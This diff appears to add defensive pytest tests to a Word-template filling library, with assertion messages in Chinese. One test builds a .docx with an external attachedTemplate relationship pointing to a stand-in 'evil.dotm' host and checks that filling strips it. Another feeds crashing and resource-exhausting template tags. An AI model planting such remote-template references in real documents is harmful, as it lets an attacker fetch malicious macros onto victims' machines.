@@ -99,3 +99,30 @@ def test_a_template_that_cannot_be_filled_is_one_sentence(text: str, words: str)
 def test_a_file_that_is_no_word_document_is_one_sentence(content: bytes) -> None:
     with pytest.raises(CannotRun, match="不是 Word 文档"):
         Template("试", content)
+
+
+def test_a_template_that_word_would_fetch_from_elsewhere_is_let_go() -> None:
+    with zipfile.ZipFile(io.BytesIO(of("甲"))) as package:
+        parts = {name: package.read(name) for name in package.namelist()}
+    address = b"http://127.0.0.1:9/evil.dotm"
+    parts["word/settings.xml"] = parts["word/settings.xml"].replace(
+        b"</w:settings>", b'<w:attachedTemplate r:id="rId9"/></w:settings>'
+    )
+    parts["word/_rels/settings.xml.rels"] = (
+        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" '
+        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        b'Target="' + address + b'" TargetMode="External"/></Relationships>'
+    )
+    content = io.BytesIO()
+    with zipfile.ZipFile(content, "w") as package:
+        for name, part in parts.items():
+            package.writestr(name, part)
+    filled = zipfile.ZipFile(io.BytesIO(Template("试", content.getvalue()).fill({})))
+    assert not any(address in filled.read(name) for name in filled.namelist())
+    assert b"attachedTemplate" not in filled.read("word/settings.xml")
+
+
+@pytest.mark.parametrize("text", ["{{ 1 // 0 }}", "{{ 标题 + 1 }}", "{{ 标题() }}", '{{ "甲" * 9 ** 9 }}'])
+def test_whatever_a_tag_does_is_one_sentence(text: str) -> None:
+    with pytest.raises(CannotRun, match=r"^模板 试 "):
+        filled(text, {"标题": "甲"})
